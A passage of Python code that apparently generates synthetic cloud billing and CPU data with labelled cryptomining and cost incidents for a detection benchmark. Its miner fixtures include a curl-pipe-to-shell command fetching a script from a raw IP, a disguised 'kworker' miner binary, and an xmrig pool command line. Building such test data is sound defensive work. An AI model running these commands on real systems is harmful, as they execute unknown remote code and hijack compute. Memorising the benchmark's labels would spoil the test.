    if p.provider == "gcp":
        root = f"projects/{p.project_id}"
        return {"Storage": f"//storage.googleapis.com/projects/_/buckets/{p.name}-data",
                "Replica": f"//storage.googleapis.com/projects/_/buckets/{p.name}-replica",
                "Databases": f"//cloudsql.googleapis.com/{root}/instances/{p.name}-db",
                "Analytics": f"//bigquery.googleapis.com/{root}/datasets/{p.team.replace('-', '_')}",
                "Management and Governance": f"//monitoring.googleapis.com/{root}",
                "Kubernetes": f"//container.googleapis.com/{root}/locations/{p.region}/clusters/{p.cluster}",
                "ML": f"//aiplatform.googleapis.com/{root}/locations/{p.region}/endpoints/{slug}"}.get(cat)
    rg = f"/subscriptions/{p.project_id}/resourceGroups/rg-{p.name}/providers"
    return {"Storage": f"{rg}/Microsoft.Storage/storageAccounts/st{slug}",
            "Replica": f"{rg}/Microsoft.Storage/storageAccounts/st{slug}dr",
            "Databases": f"{rg}/Microsoft.Sql/servers/sql-{p.name}/databases/{p.team}",
            "Analytics": f"{rg}/Microsoft.Synapse/workspaces/syn-{slug}",
            "Management and Governance": f"{rg}/Microsoft.OperationalInsights/workspaces/log-{p.name}",
            "ML": f"{rg}/Microsoft.MachineLearningServices/workspaces/mlw-{p.name}"}.get(cat)


def _missing_days(rng: np.random.Generator, projects: list[_Project], n_days: int) -> np.ndarray:
    """Exports skip days; the gap is kept well before the incident window so labels stay unambiguous."""
    miss = np.zeros((len(projects), n_days), dtype=bool)
    hi = n_days - 14
    for p in projects:
        if rng.random() < 0.15 and not p.new and hi > 5:
            miss[p.idx, rng.choice(np.arange(3, hi), size=int(rng.integers(1, 4)), replace=False)] = True
    return miss


# ----------------------------------------------------------------------------------------- incidents

def _place_incidents(w: _World, kinds: tuple[str, ...], knobs: _Knobs) -> None:
    rng = w.rng
    n = len(w.projects)
    target = max(len(set(kinds)), round(0.45 * n))
    first = [k for k in _PLACEMENT_ORDER if k in kinds]
    seq = first + [str(k) for k in rng.choice(list(kinds), size=max(target - len(first), 0))]
    taken: set[int] = set()
    for kind in seq:
        ok = [p for p in w.projects if p.idx not in taken and _eligible(p, kind)]
        if not ok:
            continue
        p = ok[int(rng.integers(len(ok)))]
        taken.add(p.idx)
        t0 = _start_hour(rng, kind, w.n_hours)
        _INCIDENT_MAKERS[kind](w, p, t0, knobs)
    w.labels.sort(key=lambda r: (r["start"], r["project_id"]))
    for k, r in enumerate(w.labels):
        r["id"] = f"INC-{k + 1:03d}"


def _eligible(p: _Project, kind: str) -> bool:
    if p.new:
        return False
    if kind == "mining_cost_only":
        return not p.has_usage
    if kind == "saturating_surge":
        return p.hot_node >= 0
    if kind == "legit_gpu_job":
        return p.has_usage and p.cluster is not None
    if kind in _CPU_KINDS:
        return p.has_usage and len(p.main_nodes) >= 2
    return True


def _start_hour(rng: np.random.Generator, kind: str, n_hours: int) -> int:
    """Within the last ten days, after three weeks of history, leaving time for the signal to show:
    CPU signals need hours, cost signals need whole (published) days."""
    if kind == "mining_long":  # 30-40 days before the end, after three weeks of history
        lo = max(21 * 24, n_hours - 40 * 24)
        return min(int(rng.integers(lo, max(n_hours - 30 * 24, lo + 1))), n_hours - 1)
    if kind == "cost_step":  # a new level 4-25 days old by the end
        lo = max(21 * 24, n_hours - 25 * 24)
        return min(int(rng.integers(lo, max(n_hours - 4 * 24, lo + 1))), n_hours - 1)
    lo = max(int(min(21 * 24, 0.6 * n_hours)), n_hours - 240)
    latest = {"mining_new_nodes": 30, "mining_existing_nodes": 30, "mining_stealth": 30, "legit_gpu_job": 30,
              "saturating_surge": 72}.get(kind, 96)
    hi = max(n_hours - latest, lo + 1)
    return min(int(rng.integers(lo, hi)), n_hours - 1)


def _when(w: _World, t: int) -> pd.Timestamp:
    return w.days[0] + t * HOUR


def _label(w: _World, kind: str, p: _Project, t0: int, t1: int, nodes: list[str], region: str,
           description: str) -> None:
    w.labels.append({
        "id": "", "kind": kind, "project_id": p.project_id, "provider": p.provider, "start": _when(w, t0),
        "end": _when(w, t1), "nodes": nodes, "region": region, "is_mining": kind in MINING_KINDS,
        "description": description,
    })


def _mining_end(rng: np.random.Generator, t0: int, n_hours: int, knobs: _Knobs) -> int:
    """Most miners are still running when the data ends; some get cleaned up (or move on) after days."""
    if rng.random() < 0.7 or knobs.miners_stay:
        return n_hours
    return min(t0 + int(rng.integers(36, 97)), n_hours)


def _miner_fleet(w: _World, p: _Project, t0: int, t1: int, *, gpu: bool, new_region: bool, count: int | None,
                 usage: bool) -> tuple[list[int], str, str]:
    rng = w.rng
    cloud = _CLOUDS[p.provider]
    options = cloud.gpu if gpu else cloud.miner
    itype, usd = options[int(rng.integers(len(options)))]
    region = str(rng.choice(cloud.attack)) if new_region else p.region
    if count is None:
        count = int(rng.integers(2, 9))
    cluster = None if new_region else p.cluster
    standalone = {"aws": "workers", "gcp": f"instance-{_when(w, t0):%Y%m%d-%H%M%S}", "azure": "vm-worker"}
    pool_name = ("gpu-pool" if gpu else "pool-3") if cluster else standalone[p.provider]
    if p.provider == "azure" and cluster:
        pool_name = "gpupool" if gpu else "userpool2"
    pool = _new_pool(rng, p, pool_name, cluster, region, itype, usd)
    rows = []
    for k in range(count):
        h0 = t0 if k == 0 else min(t0 + int(rng.integers(0, 3)), t1 - 1)
        rows.append(_add_node(w.nodes, rng, pool, w.used_names, h0, t1, peak=0.0, trough=0.0, sigma=0.0,
                              tagged=False))
    if usage:
        w.ops.append(_CpuOp("pin", rows, t0, t1, float(rng.uniform(97.5, 99.5)), 0.5))
    return rows, region, itype


def _mining_new_nodes(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    rng = w.rng
    t1 = _mining_end(rng, t0, w.n_hours, knobs)
    gpu = bool(rng.random() < 0.4) if knobs.new_nodes_gpu is None else knobs.new_nodes_gpu
    new_region = bool(rng.random() < 0.6) if knobs.new_nodes_new_region is None else knobs.new_nodes_new_region
    rows, region, itype = _miner_fleet(w, p, t0, t1, gpu=gpu, new_region=new_region, count=None, usage=True)
    _miner_pods(w, p, rows)
    where = f"in {region}, a region the project never used" if new_region else f"in its home region {region}"
    _label(w, "mining_new_nodes", p, t0, t1, [w.nodes.name[i] for i in rows], region,
           f"{len(rows)} new {itype}{' (GPU)' if gpu else ''} nodes launched {where}, CPU pinned at ~99%")


def _mining_cost_only(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """Billing is the only signal here, so the miners are sized as attackers size them: to the quota,
    which is what makes the jump visible next to the project's own compute."""
    rng = w.rng
    t1 = _mining_end(rng, t0, w.n_hours, knobs)
    cloud = _CLOUDS[p.provider]
    gpu = bool(rng.random() < 0.4)
    options = cloud.gpu if gpu else cloud.miner
    itype, usd = options[int(rng.integers(len(options)))]
    per_day = 24 * usd * _fx(p)
    count = int(np.clip(math.ceil(0.6 * p.compute_daily / per_day), 2, 8))
    if count * per_day < 0.4 * p.compute_daily:
        gpu, (itype, usd) = True, max(cloud.gpu, key=lambda x: x[1])
        count = int(np.clip(math.ceil(0.6 * p.compute_daily / (24 * usd * _fx(p))), 2, 8))
    region = str(rng.choice(cloud.attack))
    pool = _new_pool(rng, p, {"aws": "workers", "gcp": "instance", "azure": "vm-build"}[p.provider], None,
                     region, itype, usd)
    rows = [_add_node(w.nodes, rng, pool, w.used_names, t0 if k == 0 else min(t0 + int(rng.integers(0, 3)), t1 - 1),
                      t1, peak=0.0, trough=0.0, sigma=0.0, tagged=False) for k in range(count)]
    _label(w, "mining_cost_only", p, t0, t1, [w.nodes.name[i] for i in rows], region,
           f"{count} new {itype} instances in {region} (never used), no CPU data for this project: "
           f"only compute spend shows it")


def _victims(w: _World, p: _Project, t0: int, lo: float, hi: float) -> list[int]:
    alive = [i for i in p.main_nodes + p.other_nodes if w.nodes.h0[i] <= t0 < w.nodes.h1[i]]
    k = max(1, round(float(w.rng.uniform(lo, hi)) * len(alive)))
    return sorted(int(i) for i in w.rng.choice(alive, size=min(k, len(alive)), replace=False))


def _mining_existing_nodes(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    t1 = _mining_end(w.rng, t0, w.n_hours, knobs)
    rows = _victims(w, p, t0, 0.3, 1.0)
    w.ops.append(_CpuOp("floor", rows, t0, t1, float(w.rng.uniform(98.0, 99.5)), 0.4))
    _miner_pods(w, p, rows)
    _label(w, "mining_existing_nodes", p, t0, t1, [w.nodes.name[i] for i in rows], p.region,
           f"miner on {len(rows)} existing node(s), CPU pinned at ~99%, no new spend")


def _mining_stealth(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    t1 = _mining_end(w.rng, t0, w.n_hours, knobs)
    rows = _victims(w, p, t0, 0.25, 1.0)
    level = float(w.rng.uniform(50, 75)) if knobs.stealth_level is None else knobs.stealth_level
    w.ops.append(_CpuOp("floor", rows, t0, t1, level, 1.0))
    _miner_pods(w, p, rows)
    _label(w, "mining_stealth", p, t0, t1, [w.nodes.name[i] for i in rows], p.region,
           f"miner capped at {level:.0f}% CPU on {len(rows)} existing node(s): a flat plateau, no new spend")


def _benign_surge(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    rng = w.rng
    t1 = min(t0 + int(rng.integers(24, 73)), w.n_hours)
    mult = float(rng.uniform(1.5, 2.2))
    rows = [i for i in p.main_nodes + p.other_nodes + p.office_nodes if w.nodes.h0[i] <= t0 < w.nodes.h1[i]]
    pool = p.pool
    peak = float(np.mean([w.nodes.peak[i] for i in rows]))
    added = []
    for _ in range(int(rng.integers(1, 4))):
        h0 = min(t0 + int(rng.integers(1, 4)), t1 - 1)
        h1 = min(t1 + int(rng.integers(2, 7)), w.n_hours)
        added.append(_add_node(w.nodes, rng, pool, w.used_names, h0, h1, peak=peak,
                               trough=peak * float(rng.uniform(0.25, 0.5)), sigma=float(rng.uniform(3, 6)),
                               discount=p.discount))
    w.ops.append(_CpuOp("scale", rows + added, t0, t1, mult))
    if p.networking_series >= 0:  # more traffic, more egress
        frac = _day_overlap(t0, t1, len(w.days))
        k = p.networking_series
        w.series.values[k] = np.round(w.series.values[k] * (1 + (mult - 1) * frac), 6)
    _label(w, "benign_surge", p, t0, t1, [w.nodes.name[i] for i in rows + added], p.region,
           f"traffic x{mult:.1f} for {(t1 - t0) / 24:.1f} days: CPU keeps its daily shape, autoscaler added "
           f"{len(added)} node(s)")


def _planned_step(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    rng = w.rng
    rows = [i for i in p.main_nodes if w.nodes.h0[i] <= t0 < w.nodes.h1[i]]
    n_new = max(1, math.ceil(len(rows) * float(rng.uniform(0.3, 1.0))))
    pool = p.pool
    added = []
    for _ in range(n_new):
        like = int(rng.choice(rows))
        added.append(_add_node(w.nodes, rng, pool, w.used_names, min(t0 + int(rng.integers(0, 2)), w.n_hours - 1),
                               w.n_hours, peak=w.nodes.peak[like], trough=w.nodes.trough[like],
                               sigma=w.nodes.sigma[like], discount=p.discount))
    w.ops.append(_CpuOp("step", rows + added, t0, w.n_hours, float(rng.uniform(0.72, 0.9))))
    _label(w, "planned_step", p, t0, w.n_hours, [w.nodes.name[i] for i in added], p.region,
           f"capacity step-up: {n_new} more {w.nodes.itype[rows[0]]} node(s) from "
           f"{_when(w, t0):%Y-%m-%d %H:%M} UTC, load spreads across the pool")


def _budget_breach(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """The new service's level is fixed later (``_budgets``), once the normal month is known: the budget
    sits just above it and the growth has to carry the forecast over."""
    cloud = _CLOUDS[p.provider]
    n = len(w.days)
    unit = _day_overlap(t0, w.n_hours, n) * np.exp(w.rng.normal(0, 0.05, n))
    tags = dict(p.tags)
    w.budget_unit[p.idx] = w.series.add(p.idx, cloud.ml, "AI and Machine Learning", p.region, "Usage",
                                        _service_resource(p, "ML"), tags, unit)
    _label(w, "budget_breach", p, t0, w.n_hours, [], p.region,
           f"new {cloud.ml} spend from {_when(w, t0):%Y-%m-%d}; the month-end forecast crosses the budget")


# ------------------------------------------------------------------------- failure classes (issue 16)

_MINER_IMAGES = ("docker.io/xmrig/xmrig:latest", "docker.io/library/ubuntu:22.04", "ghcr.io/kd8x2/worker:latest",
                 "docker.io/alpine:3.19")
_MINER_COMMANDS = ("xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1", "./start.sh",
                   "/var/tmp/.x/kworker -B -o 45.9.148.21:443",  # noqa: S108 (a miner's command line)
                   "sh -c 'curl -s http://45.9.148.21/i.sh | sh'")


def _registry(p: _Project) -> str:
    """The project's own (allowlisted) image registry."""
    if p.provider == "aws":
        return f"{p.project_id}.dkr.ecr.{p.region}.amazonaws.com"
    if p.provider == "gcp":
        return f"{p.region}-docker.pkg.dev/{p.project_id}/ml"
    return f"cr{p.name.replace('-', '')[:20]}.azurecr.io"


def _miner_pods(w: _World, p: _Project, rows: list[int]) -> None:
    """What a cluster API shows on a miner's nodes: no owner labels, an image from outside the project's
    registry; about half the miners are obvious (xmrig, a pool address), the rest are not.  No random draws,
    so the default worlds stay what they were."""
    for i in rows:
        if w.nodes.cluster[i] is None:
            continue
        name = w.nodes.name[i]
        k = sum(map(ord, name)) % len(_MINER_IMAGES)
        w.pods.append({"project_id": p.project_id, "node": name, "namespace": ("default", "kube-system")[k % 2],
                       "pod": f"worker-{name[-5:]}", "image": _MINER_IMAGES[k], "labels": {},
                       "command": _MINER_COMMANDS[k]})


_HOLIDAYS: dict[str, tuple[str, ...]] = {
    "us": ("2026-01-01", "2026-01-19", "2026-02-16", "2026-05-25", "2026-07-03", "2026-09-07", "2026-10-12",
           "2026-11-11", "2026-11-26", "2026-11-27", "2026-12-25", "2027-01-01"),
    "eu": ("2026-01-01", "2026-04-03", "2026-04-06", "2026-05-01", "2026-05-14", "2026-05-25", "2026-08-15",
           "2026-10-03", "2026-11-01", "2026-12-25", "2026-12-26", "2027-01-01"),
    "asia": ("2026-01-01", "2026-02-17", "2026-05-01", "2026-08-10", "2026-09-21", "2026-10-12", "2026-11-03",
             "2026-11-23", "2026-12-25", "2027-01-01"),
}


def _holiday_zone(region: str) -> str:
    if region.startswith(("us-", "eastus")):
        return "us"
    if region.startswith(("eu-", "europe-", "westeurope", "northeurope")):
        return "eu"
    return "asia"


def _recurring_patterns(w: _World, rng: np.random.Generator) -> None:
    """Clean-history patterns a detector must learn rather than alert on (every project, clean ones too).

    - month-end batch jobs on about a quarter of projects: compute up x1.3-1.5 on the last two days of every
      month (or the first two: month-start), one in five also on the third-to-last day of a quarter's last
      month.  They run on a managed batch service, so they show in compute spend, not in node CPU.
    - public holidays of the project's users: traffic-driven spend and CPU at weekend level.
    - an autoscaler (a third of projects) adding one or two nodes for 3-10 hours on about one day in eight.
    - deploy days (a third of projects with CPU data): the main pool's CPU steps x0.8-1.25 for good.
    - a node that usually runs at 60-75% CPU (a quarter of projects with CPU data).

    The steps draw from ``rng`` project by project in this order, which the benchmark's data depends on."""
    holidays = w.holidays = np.zeros((len(w.projects), len(w.days)), dtype=bool)
    cal = _Calendar.of(w.days)
    for p in w.projects:
        _holiday_dip(w, rng, p, cal, holidays)
        _month_end_job(w, rng, p, cal)
        if not p.has_usage or len(p.main_nodes) < 2:
            continue
        _autoscaling(w, rng, p)
        _deploy_steps(w, rng, p)
        _hot_node(w, rng, p)


@dataclass(frozen=True)
class _Calendar:
    """Per-day calendar facts of the scenario's days, computed once for all projects."""

    day_str: np.ndarray  # "YYYY-MM-DD", to look holidays up
    last: np.ndarray  # days to the end of the month: 0 on its last day
    dom: np.ndarray  # day of the month
    quarter_end: np.ndarray  # bool: in a quarter's last month

    @staticmethod
    def of(days: pd.DatetimeIndex) -> _Calendar:
        return _Calendar(day_str=np.asarray(days.strftime("%Y-%m-%d")), last=np.asarray(days.days_in_month - days.day),
                         dom=np.asarray(days.day), quarter_end=np.asarray(days.month % 3 == 0))


def _holiday_dip(w: _World, rng: np.random.Generator, p: _Project, cal: _Calendar, holidays: np.ndarray) -> None:
    """Marks the project's public holidays in ``holidays`` (``w.holidays``: the CPU hump reads them too) and
    lowers its traffic-driven networking spend on them, as users are away."""
    holidays[p.idx] = np.isin(cal.day_str, _HOLIDAYS[_holiday_zone(p.region)]) & (np.arange(len(w.days)) >= p.first_day)
    if p.networking_series >= 0 and holidays[p.idx].any():
        k = p.networking_series
        w.series.values[k] = np.round(np.where(holidays[p.idx], w.series.values[k] * rng.uniform(0.6, 0.85),
                                               w.series.values[k]), 6)


def _month_end_job(w: _World, rng: np.random.Generator, p: _Project, cal: _Calendar) -> None:
    """A batch job on a managed service on month-end, month-start or quarter-end days: a compute series of
    its own, so it moves spend and not node CPU.  New projects get none (too little history to learn it)."""
    if p.new or not rng.random() < 0.25:
        return
    n_days = len(w.days)
    variant = str(rng.choice(["month-end", "month-start", "quarter-end"], p=[0.6, 0.2, 0.2]))
    factor = float(rng.uniform(0.3, 0.5))
    on = (cal.dom <= 2) if variant == "month-start" else (cal.last <= 1)
    if variant == "quarter-end":
        on = on | ((cal.last == 2) & cal.quarter_end)
    vals = np.where(on, factor * max(p.compute_daily, 5.0) * np.exp(rng.normal(0, 0.05, n_days)), 0.0)
    w.series.add(p.idx, _CLOUDS[p.provider].services["Compute"], "Compute", p.region, "Usage",
                 f"{p.name}-{variant}-batch", dict(p.tags), np.round(vals, 6))
    w.patterns.append({"project_id": p.project_id, "pattern": variant,
                       "detail": f"compute x{1 + factor:.2f} on {variant} days"})


def _autoscaling(w: _World, rng: np.random.Generator, p: _Project) -> None:
    """One or two nodes like a main node, added at the project's daily peak for 3-10 hours on about one day
    in eight: node churn and extra cost that are the fleet's normal, not an incident."""
    if not rng.random() < 0.33:
        return
    nodes, n_hours = w.nodes, w.n_hours
    events = 0
    for d in np.flatnonzero(rng.random(len(w.days)) < 0.12):
        if d < p.first_day + 1:
            continue
        h0 = int(24 * d + (p.peak_hour - p.tz) % 24 - rng.integers(0, 4))
        h1 = min(h0 + int(rng.integers(3, 11)), n_hours)
        if not 0 <= h0 < h1:
            continue
        like = p.main_nodes[int(rng.integers(len(p.main_nodes)))]
        for _ in range(int(rng.integers(1, 3))):
            p.other_nodes.append(_add_node(
                nodes, rng, p.pool, w.used_names, h0, h1, peak=nodes.peak[like], trough=nodes.trough[like],
                sigma=nodes.sigma[like], discount=p.discount))
        events += 1
    w.patterns.append({"project_id": p.project_id, "pattern": "autoscaling",
                       "detail": f"{events} scale-outs of 3-10 h"})


def _deploy_steps(w: _World, rng: np.random.Generator, p: _Project) -> None:
    """One or two deploys after the first ten days that move the main pool's CPU for good: a lasting level
    change in CPU that is not a miner."""
    if not rng.random() < 0.33:
        return
    n_hours = w.n_hours
    for _ in range(int(rng.integers(1, 3))):
        at = int(rng.integers(min(10 * 24, n_hours - 1), n_hours))
        level = float(rng.uniform(0.8, 1.25))
        w.ops.append(_CpuOp("step", list(p.main_nodes), at, n_hours, level))
        w.patterns.append({"project_id": p.project_id, "pattern": "deploy",
                           "detail": f"CPU x{level:.2f} from {_when(w, at):%Y-%m-%d %H:%M}"})


def _hot_node(w: _World, rng: np.random.Generator, p: _Project) -> None:
    """A main node that usually runs busy (60-75%) without a trend: high CPU that is its own normal, which
    a detector must not take for a miner."""
    if not (len(p.main_nodes) >= 3 and rng.random() < 0.25):
        return
    nodes = w.nodes
    hot = p.main_nodes[int(rng.integers(len(p.main_nodes)))]
    nodes.peak[hot] = float(rng.uniform(66, 76))
    nodes.trough[hot] = nodes.peak[hot] * float(rng.uniform(0.8, 0.9))
    nodes.trend[hot] = 0.0
    p.hot_node = hot
    usual = f"{nodes.trough[hot]:.0f}-{nodes.peak[hot]:.0f}%"
    w.patterns.append({"project_id": p.project_id, "pattern": "hot node",
                       "detail": f"{nodes.name[hot]} usually at {usual}"})


def _saturating_surge(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """The project surges with its usual daily shape (cost x1.3-1.6 for 1-3 days, the autoscaler adds nodes)
    and its busy node, usually at 60-75%, hits 100% for 2-3 hours at the daily peak: flat because capped."""
    rng = w.rng
    t1 = min(t0 + int(rng.integers(24, 73)), w.n_hours)
    mult = float(rng.uniform(1.3, 1.6))
    rows = [i for i in p.main_nodes + p.other_nodes + p.office_nodes if w.nodes.h0[i] <= t0 < w.nodes.h1[i]]
    base = [i for i in rows if not w.nodes.office[i]]
    n_add = max(1, round((mult - 1) * len(base)))
    peak = float(np.mean([w.nodes.peak[i] for i in base if i != p.hot_node] or [30.0]))
    added = []
    for _ in range(n_add):
        h0 = min(t0 + int(rng.integers(0, 3)), t1 - 1)
        added.append(_add_node(w.nodes, rng, p.pool, w.used_names, h0, min(t1 + int(rng.integers(1, 4)), w.n_hours),
                               peak=peak, trough=peak * float(rng.uniform(0.25, 0.5)), sigma=float(rng.uniform(3, 6)),
                               discount=p.discount))
    w.ops.append(_CpuOp("scale", rows + added, t0, t1, mult))
    # the daily peak inside the surge (UTC hour of the project's local peak), capped for 2-3 hours
    peak_utc = round(p.peak_hour - p.tz) % 24
    first = t0 + (peak_utc - t0 % 24) % 24 - 1
    if first + 3 > t1:
        first = max(t0, t1 - 4)
    dur = int(rng.integers(2, 4))
    w.ops.append(_CpuOp("saturate", [p.hot_node], first, min(first + dur, t1), 99.7, 0.3))
    if p.networking_series >= 0:
        frac = _day_overlap(t0, t1, len(w.days))
        k = p.networking_series
        w.series.values[k] = np.round(w.series.values[k] * (1 + (mult - 1) * frac), 6)
    _label(w, "saturating_surge", p, t0, t1, [w.nodes.name[i] for i in [p.hot_node, *added]], p.region,
           f"traffic x{mult:.2f} for {(t1 - t0) / 24:.1f} days with the daily shape; busy node "
           f"{w.nodes.name[p.hot_node]} capped at 100% for {dur} h at the peak, {len(added)} node(s) added")


def _legit_gpu_job(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """A training job on new, pinned GPU nodes in the project's own cluster and home region: images from
    the project's registry, owner labels, no miner signs.  CPU is high and steady, as training is."""
    rng = w.rng
    cloud = _CLOUDS[p.provider]
    t1 = min(t0 + int(rng.integers(24, 121)), w.n_hours)
    itype, usd = cloud.gpu[int(rng.integers(len(cloud.gpu)))]
    pool = _new_pool(rng, p, {"aws": "gpu-train", "gcp": "train-pool", "azure": "trainpool"}[p.provider], p.cluster,
                     p.region, itype, usd)
    count = int(rng.integers(1, 5))
    rows = [_add_node(w.nodes, rng, pool, w.used_names, min(t0 + int(rng.integers(0, 2)), t1 - 1), t1, peak=0.0,
                      trough=0.0, sigma=0.0, discount=p.discount) for _ in range(count)]
    for i in rows:
        w.nodes.tags[i].update({"workload": "training", "job": f"{p.team}-train-{_when(w, t0):%m%d}"})
    level = float(rng.uniform(80, 95))
    w.ops.append(_CpuOp("pin", rows, t0, t1, level, float(rng.uniform(1.5, 3.0))))
    image = f"{_registry(p)}/{p.team}-trainer:{int(rng.integers(1, 9))}.{int(rng.integers(0, 20))}"
    for i in rows:
        if w.nodes.cluster[i] is not None:
            w.pods.append({"project_id": p.project_id, "node": w.nodes.name[i], "namespace": "ml-training",
                           "pod": f"{p.team}-train-{w.nodes.name[i][-5:]}", "image": image,
                           "labels": {"owner": p.owner, "team": p.team, "app": "trainer"},
                           "command": "python train.py --config configs/prod.yaml"})
    _label(w, "legit_gpu_job", p, t0, t1, [w.nodes.name[i] for i in rows], p.region,
           f"training job on {count} new {itype} GPU node(s) in {p.region} at ~{level:.0f}% CPU for "
           f"{(t1 - t0) / 24:.1f} days; image {image}, owner {p.owner}")


def _mining_long(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """A miner that started 30-40 days before the data ends and still runs: on new nodes, pinned existing
    nodes, or capped stealthily on existing nodes."""
    rng = w.rng
    t1 = w.n_hours
    variant = str(rng.choice(["new nodes", "existing", "stealth"]))
    if variant == "new nodes":
        rows, region, itype = _miner_fleet(w, p, t0, t1, gpu=bool(rng.random() < 0.3), new_region=False,
                                           count=int(rng.integers(1, 4)), usage=True)
        what = f"{len(rows)} new {itype} node(s) pinned at ~99%"
    else:
        rows = _victims(w, p, t0, 0.25, 0.8)
        level = float(rng.uniform(98.0, 99.5)) if variant == "existing" else float(rng.uniform(50, 75))
        w.ops.append(_CpuOp("floor", rows, t0, t1, level, 0.4 if variant == "existing" else 1.0))
        region = p.region
        what = f"miner at {level:.0f}% on {len(rows)} existing node(s)"
    _miner_pods(w, p, rows)
    _label(w, "mining_long", p, t0, t1, [w.nodes.name[i] for i in rows], region,
           f"{what} since {_when(w, t0):%Y-%m-%d}, still running ({(t1 - t0) / 24:.0f} days)")


def _cost_step(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """A new level nobody planned: a forgotten always-on database replica or provisioned capacity, +30-80%
    of the project's daily spend from ``t0`` to the end."""
    rng = w.rng
    cloud = _CLOUDS[p.provider]
    cat = str(rng.choice(["Databases", "Analytics", "Storage"]))
    level = float(rng.uniform(0.3, 0.8)) * _daily_spend(w, p)
    vals = level * _day_overlap(t0, w.n_hours, len(w.days)) * np.exp(rng.normal(0, 0.04, len(w.days)))
    w.series.add(p.idx, cloud.services[cat], cat, p.region, "Usage", f"{_service_resource(p, cat) or p.name}-new",
                 dict(p.tags), np.round(vals, 6))
    _label(w, "cost_step", p, t0, w.n_hours, [], p.region,
           f"new always-on {cloud.services[cat]} spend of {level:,.2f}/day from {_when(w, t0):%Y-%m-%d}, unplanned")


def _cost_spike(w: _World, p: _Project, t0: int, knobs: _Knobs) -> None:
    """Runaway spend for 1-3 days (a query loop, a log flood, egress): +50-200% of the daily spend."""
    rng = w.rng
    cloud = _CLOUDS[p.provider]
    cat = str(rng.choice(["Analytics", "Networking", "Management and Governance"]))
    t1 = min(t0 + 24 * int(rng.integers(1, 4)), w.n_hours)
    level = float(rng.uniform(0.5, 2.0)) * _daily_spend(w, p)
    vals = level * _day_overlap(t0, t1, len(w.days))
    w.series.add(p.idx, cloud.services[cat], cat, p.region, "Usage", _service_resource(p, cat), dict(p.tags),
                 np.round(vals, 6))
    _label(w, "cost_spike", p, t0, t1, [], p.region,
           f"runaway {cloud.services[cat]} spend, +{level:,.2f}/day for {(t1 - t0) / 24:.0f} day(s)")


def _daily_spend(w: _World, p: _Project) -> float:
    """The project's nominal usage spend per day: its base compute plus its services over the last weeks."""
    tot = max(p.compute_daily, 5.0)
    for k, j in enumerate(w.series.project):
        if j == p.idx and w.series.charge[k] == "Usage":
            tot += float(np.mean(w.series.values[k][-28:]))
    return tot


_INCIDENT_MAKERS: dict[str, Callable[[_World, _Project, int, _Knobs], None]] = {
    "mining_new_nodes": _mining_new_nodes, "mining_existing_nodes": _mining_existing_nodes,
    "mining_stealth": _mining_stealth, "mining_cost_only": _mining_cost_only, "benign_surge": _benign_surge,
    "planned_step": _planned_step, "budget_breach": _budget_breach, "saturating_surge": _saturating_surge,
    "legit_gpu_job": _legit_gpu_job, "mining_long": _mining_long, "cost_step": _cost_step, "cost_spike": _cost_spike,
}


def _day_overlap(t0: int, t1: int, n_days: int) -> np.ndarray:
    """Per day, the share of it inside hours [t0, t1): daily bills count a partial first day by its hours."""
    d = np.arange(n_days)
    return np.clip(np.minimum(t1, 24 * (d + 1)) - np.maximum(t0, 24 * d), 0, 24) / 24.0


# ------------------------------------------------------------------------------------------- costing

def _alive(nodes: _Nodes, projects: list[_Project], days: pd.DatetimeIndex,
           holidays: np.ndarray | None = None) -> np.ndarray:
    """Nodes x hours: when each node ran.  Billing and CPU samples both come from this one matrix."""
    n_hours = 24 * len(days)
    hour = np.arange(n_hours)
    alive = (hour[None, :] >= np.asarray(nodes.h0)[:, None]) & (hour[None, :] < np.asarray(nodes.h1)[:, None])
    office = np.flatnonzero(nodes.office)
    if office.size:
        local = hour[None, :] + np.asarray([p.tz for p in projects])[:, None]
        open_p = (local % 24 >= 8) & (local % 24 < 20) & ((local // 24 + days[0].dayofweek) % 7 < 5)
        if holidays is not None:
            day_i = np.clip(local // 24, 0, len(days) - 1)
            open_p &= ~np.take_along_axis(holidays, day_i, axis=1)
        alive[office] &= open_p[np.asarray(nodes.project)[office]]
    return alive


def _node_costs(nodes: _Nodes, alive: np.ndarray, n_days: int) -> tuple[np.ndarray, np.ndarray]:
    hours = alive.reshape(len(nodes), n_days, 24).sum(axis=2).astype(float)
    return np.round(hours * np.asarray(nodes.price)[:, None], 6), hours


def _clean_daily(projects: list[_Project], nodes: _Nodes, series: _Series, node_cost: np.ndarray,
                 n_base_nodes: int, n_base_series: int, missing: np.ndarray, n_days: int,
                 ) -> tuple[np.ndarray, np.ndarray]:
    """Per project x day net (all charges) and gross (usage only) spend of the base data, NaN where the
    export has no rows; the yardstick budgets and thresholds are set against."""
    n_proj = len(projects)
    eff = node_cost[:n_base_nodes] * np.asarray(nodes.discount[:n_base_nodes])[:, None]
    gross = np.zeros((n_proj, n_days))
    np.add.at(gross, np.asarray(nodes.project[:n_base_nodes], dtype=int), eff)
    net = gross.copy()
    for k in range(n_base_series):
        if series.charge[k] == "Usage":
            gross[series.project[k]] += series.values[k]
        net[series.project[k]] += series.values[k]
    first = np.asarray([p.first_day for p in projects])[:, None]
    absent = missing | (np.arange(n_days)[None, :] < first)
    return np.where(absent, np.nan, net), np.where(absent, np.nan, gross)


def _forecasts(net: np.ndarray, days: pd.DatetimeIndex) -> np.ndarray:
    """Month-to-date plus the last 7 days' run rate times the days left, as the budget check reads it."""
    x = np.nan_to_num(net)
    present = ~np.isnan(net)
    month = np.asarray(days.year * 12 + days.month)
    starts = np.r_[0, np.flatnonzero(np.diff(month)) + 1]
    month_first = starts[np.searchsorted(starts, np.arange(len(days)), side="right") - 1]
    cs = np.cumsum(x, axis=1)
    before = np.where(month_first > 0, cs[:, np.maximum(month_first - 1, 0)], 0.0)
    mtd = cs - before
    c7 = np.cumsum(np.pad(x, ((0, 0), (7, 0))), axis=1)
    n7 = np.cumsum(np.pad(present.astype(float), ((0, 0), (7, 0))), axis=1)
